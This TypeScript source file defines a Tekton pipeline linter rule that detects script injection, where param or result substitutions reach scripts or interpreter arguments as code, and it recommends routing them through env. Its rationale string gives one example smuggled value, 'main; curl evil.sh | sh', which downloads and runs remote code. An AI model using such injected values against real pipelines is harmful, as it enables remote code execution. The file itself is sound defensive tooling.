import { invocation } from '../../private/argv';
import { asArray } from '../../private/containers';
import { envNameFor, untrustedSubstitutions } from '../../private/substitutions';
import { Severity } from '../rule';
import { containerRule } from '../rule-builders';
import { RuleId } from '../rule-id';

/**
 * Substitutions that callers can choose reach code only as data.
 *
 * Tekton pastes every `$(…)` into the text before the program sees it. In a
 * script (whatever its `#!` line), and in any argument of an interpreter or
 * command runner (`sh -c`, `bash -ec`, `python3 -c`, `node -e`, `env -i sh -c`,
 * `/bin/busybox sh`, `ssh`, `xargs`, `kubectl` …), the value becomes code. Only
 * env values (and the paths Tekton fixes from the task itself, such as
 * `$(workspaces.src.path)`) are allowed there.
 */
export const SCRIPT_INJECTION = containerRule(
  {
    id: RuleId.SCRIPT_INJECTION,
    severity: Severity.HIGH,
    title: 'Params and results reach scripts and interpreters only through env',
    rationale:
      'Tekton pastes a substitution into the script or argument text before the program parses it, so a param value such as '
      + '"main; curl evil.sh | sh" runs as code. Through env it stays data.',
    fix: 'Pass the value through env and quote the variable in the script.',
    relaxable: false,
  },
  (view) => {
    const c = view.effective;
    const places: Array<{ property: string; text: string }> = [];
    if (typeof view.container?.script === 'string') places.push({ property: 'script', text: view.container.script });
    const command = asArray(c?.command).map(String);
    const args = asArray(c?.args).map(String);
    // without a command the image's entrypoint runs: ARGUMENT_INJECTION judges its args
    const run = command.length > 0 ? invocation([...command, ...args]) : { programIndex: -1, interpreter: false, program: undefined };
    if (run.interpreter) {
      [...command, ...args].forEach((text, i) => {
        if (i > run.programIndex) places.push({ property: i < command.length ? 'command' : 'args', text });
      });
    }
    return places.flatMap(({ property, text }) => untrustedSubstitutions(text).slice(0, 1).map((found) => {
      const env = envNameFor(found.text);
      return {
        property,
        value: found.text,
        problem: property === 'script' ? 'pastes a substitution into a script' : `pastes a substitution into the arguments of ${run.program}, which runs them as code`,
        fix: `Pass it through env instead: env: [{ name: '${env}', value: '${found.text}' }] and use "$${env}" (quoted) in the script.`,
      };
    }));
  },
  { includeStepTemplate: true },
);
